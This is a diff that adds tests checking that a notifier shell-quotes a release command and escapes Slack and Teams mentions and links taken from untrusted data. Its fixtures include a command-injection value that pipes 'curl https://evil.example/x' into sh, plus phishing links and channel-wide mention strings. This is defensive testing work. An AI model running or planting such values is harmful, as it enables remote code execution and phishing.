@@ -192,3 +192,72 @@ def test_release_command_line(control_db, db, monkeypatch, capsys):
     assert control_row(db, "erp.invoices")["needs_review"] is False
     assert cli_main(["release", "erp.unknown"]) == 1
     assert "no table_control row with control_key 'erp.unknown'" in capsys.readouterr().err
+
+
+# Issue 22: a control key and a source's error text are data written by others.
+EVIL_KEY = "erp.a; curl https://evil.example/x | sh #"
+EVIL_CAUSE = (
+    "relation missing <!channel> see <https://evil.example/login|the runbook>"
+    " or [the runbook](https://evil.example/login) @here <@U024BE7LH> <at>Lead</at>"
+)
+
+
+def _sent(webhook: Webhook, prefix: str) -> list[str]:
+    """Every text field of the bodies posted under ``prefix``, as the chat service parses it."""
+    texts: list[str] = []
+
+    def walk(value):
+        if isinstance(value, dict):
+            for k, v in value.items():
+                if k == "text" and isinstance(v, str):
+                    texts.append(v)
+                else:
+                    walk(v)
+        elif isinstance(value, list):
+            for v in value:
+                walk(v)
+
+    for path, body in webhook.posts:
+        if path.startswith(prefix):
+            walk(body)
+    return texts
+
+
+def test_the_release_command_is_shell_quoted(webhook):
+    import shlex
+
+    notifier = Notifier(
+        slack_webhook_url=webhook.url("/slack/x"), teams_webhook_url=webhook.url("/teams/x")
+    )
+    assert notifier.send(Alert(title="t", cause="c", control_key=EVIL_KEY)) == []
+    slack = "\n".join(_sent(webhook, "/slack"))
+    line = next(line for line in slack.splitlines() if "dataloader release" in line)
+    command = line.split("or run: ", 1)[1]
+    assert shlex.split(command) == ["dataloader", "release", EVIL_KEY]
+    assert "dataloader release 'erp.a; curl https://evil.example/x | sh #'" in slack
+    teams = "\n".join(_sent(webhook, "/teams"))
+    assert "dataloader release 'erp.a; curl https://evil.example/x | sh #'" in teams
+
+
+def test_text_from_data_cannot_mention_or_link_in_slack_or_teams(webhook):
+    notifier = Notifier(
+        slack_webhook_url=webhook.url("/slack/x"), teams_webhook_url=webhook.url("/teams/x")
+    )
+    alert = Alert(
+        title="a table needs review",
+        cause=EVIL_CAUSE,
+        control_key="erp.<!here>",
+        dagster_run="[run](https://evil.example)",
+    )
+    assert notifier.send(alert) == []
+    slack_texts = _sent(webhook, "/slack")
+    assert slack_texts  # the fallback text and the blocks
+    for text in slack_texts:
+        for live in ("<!channel>", "<!here>", "<https://evil", "<@U024BE7LH>", "@here"):
+            assert live not in text, (live, text)
+    slack = "\n".join(slack_texts)
+    assert "&lt;!channel&gt;" in slack and "&lt;@U024BE7LH&gt;" in slack  # shown, not live
+    teams = "\n".join(_sent(webhook, "/teams"))
+    assert "[the runbook](" not in teams and "\\[the runbook\\]\\(" in teams
+    assert "[run](" not in teams and "<at>" not in teams and "@here" not in teams
+    assert "\\<\\!channel\\>" in teams or "\\<!channel\\>" in teams
